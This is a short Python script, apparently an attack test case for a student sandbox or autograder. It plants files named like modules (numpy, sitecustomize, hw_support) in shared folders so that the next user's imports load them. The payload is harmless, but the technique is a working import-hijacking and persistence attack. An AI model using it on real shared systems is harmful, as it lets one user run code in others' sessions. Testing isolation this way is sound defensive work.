"""Leaves files for the next student that are named like modules."""

# /// attack
# checked_in = "test_patching.py"
# ///

# %% before
import os
for folder in ("/home/student", "/tmp", "/dev/shm", os.getcwd(), "/run/kernel"):
    for name in ("numpy", "hw_support", "sitecustomize", "left"):
        with open(f"{folder}/{name}.py", "w") as file:
            file.write("double = lambda x: 2 * x")
print("l" + "eft")
